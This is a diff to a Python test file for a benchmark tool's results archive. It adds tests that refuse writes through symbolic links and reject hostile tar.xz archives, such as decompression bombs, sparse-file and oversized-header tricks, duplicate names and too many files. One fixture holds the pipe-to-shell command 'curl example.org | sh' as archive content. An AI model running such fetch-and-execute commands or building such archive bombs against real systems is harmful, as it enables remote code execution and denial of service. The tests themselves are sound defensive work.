@@ -1,5 +1,7 @@
 """A results folder that comes as one file, records.tar.xz."""
 
+import io
+import lzma
 import shutil
 import sys
 import tarfile
@@ -12,9 +14,11 @@ import pytest
 from small_recipe import DEMO, qbench, small_recipe
 from synthetic import make_store
 
+from qbench.archive import ARCHIVE
 from qbench.cli import app as cli
 from qbench.errors import DamagedError, OutputError, ResultsError
-from qbench.store import ARCHIVE, Analyses, Store, run_id, runs, write
+from qbench.record_file import write
+from qbench.store import Analyses, Store, run_id, runs
 
 SETTINGS = {"sizes": {"arc_easy": 60, "wikitext": 6}, "failed": ("softpick/gptq-4bit",)}
 PAIR = Path(__file__).parents[1] / "results" / "pair-27m"
@@ -151,8 +155,8 @@ def test_where_all_is_there_a_folder_may_be_read_only(packed, monkeypatch):
     def refuse(path, payload=None):
         raise OutputError(f"{path}: cannot be written to (Read-only file system)")
 
-    monkeypatch.setattr("qbench.store.require_folder", refuse)
-    monkeypatch.setattr("qbench.store.write_atomically", refuse)
+    monkeypatch.setattr("qbench.archive.require_folder", refuse)
+    monkeypatch.setattr("qbench.archive.write_atomically", refuse)
     assert records(packed) == before
 
 
@@ -210,8 +214,79 @@ def test_a_folder_that_cannot_be_written_to_is_named(packed, monkeypatch):
     def refuse(path):
         raise OutputError(f"{path}: cannot be written to (Read-only file system)")
 
-    monkeypatch.setattr("qbench.store.require_folder", refuse)
+    monkeypatch.setattr("qbench.archive.require_folder", refuse)
     with pytest.raises(OutputError, match=r"grid: cannot be written to \(Read-only"):
+        Store(packed)
+
+
+# A symbolic link in a foreign folder, and the command that would write through it.
+LINKS = {
+    "grid.json": ("show", "{}"), "grids": ("show", "{}"), "records": ("show", "{}"),
+    ".unpacked": ("show", "{}"), ".lock": ("show", "{}"), "tables.md": ("tables", "{}"),
+    "tables.csv": ("tables", "{}"), "report.html": ("report", "{}"),
+    "export": ("export", "{}", "--to", "model-card"),
+    "export/model-card/softmax__bf16.md": ("export", "{}", "--to", "model-card"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", LINKS)
+def test_nothing_is_written_through_a_link_of_a_results_folder(packed, capsys, name):
+    if name.endswith(("md", "csv", "html")) or name == "export":
+        records(packed)  # unpacked before
+    outside = packed.parent / "outside"
+    outside.mkdir()
+    (outside / "file").write_text("mine")
+    (packed / name).parent.mkdir(parents=True, exist_ok=True)
+    is_file = "." in name
+    (packed / name).symlink_to(outside / "file" if is_file else outside)
+    try:
+        qbench(*(part.format(packed) for part in LINKS[name]))
+        said = capsys.readouterr().err  # tables are printed all the same
+    except OutputError as error:
+        said = str(error)
+    assert "is a symbolic link; nothing is written through links" in said
+    assert files(outside) == {"file": b"mine"}
+
+
+def member(name, payload, **more):
+    info = tarfile.TarInfo(name)
+    info.size = len(payload)
+    for key, value in more.items():
+        setattr(info, key, value)
+    return info, payload
+
+
+SPARSE = {"GNU.sparse.map": "0,1", "GNU.sparse.size": str(2**40), "GNU.sparse.numblocks": "1"}
+HOSTILE = {
+    "any text": [member("grid.json", b"curl example.org | sh")],
+    "another kind": [member("records/a/b/c.json", b'{"schema_version": 2}')],
+    "a table of other content": [member("records/a/b/c.0123456789abcdef.outcomes.parquet", b"x")],
+    "zeros": [member("records/a/b/c.json", bytes(2**21))],
+    "a long header": [member("grid.json", b"", pax_headers={"comment": "x" * 2**21})],
+    "many files": [member(f"other/{number}", b"") for number in range(200)],
+    "a sparse file": [member("records/a/b/c.json", b"x", pax_headers=SPARSE)],
+    "a name twice": 2 * [member("records/a/b/c.json", b"")],
+}
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_a_hostile_archive_is_refused_before_a_byte_is_written(packed, monkeypatch, what):
+    """The bounds are lowered, so that the files are small."""
+    monkeypatch.setattr("qbench.archive.LEAST_BOUND", 2**20)
+    monkeypatch.setattr("qbench.archive.MOST_FILES", 100)
+    with tarfile.open(packed / ARCHIVE, "w:xz") as archive:
+        for info, payload in HOSTILE[what]:
+            archive.addfile(info, io.BytesIO(payload))
+    with pytest.raises(DamagedError, match=r"damaged: .*; fetch it again"):
+        Store(packed)
+    assert list(files(packed)) == [ARCHIVE]
+
+
+def test_zeros_behind_the_last_file_are_bounded(packed, monkeypatch):
+    monkeypatch.setattr("qbench.archive.LEAST_BOUND", 2**20)
+    with lzma.open(packed / ARCHIVE, "wb") as file:
+        file.write(bytes(2**22))
+    with pytest.raises(DamagedError, match="unpacks to more than 1,048,576 bytes"):
         Store(packed)
 
 
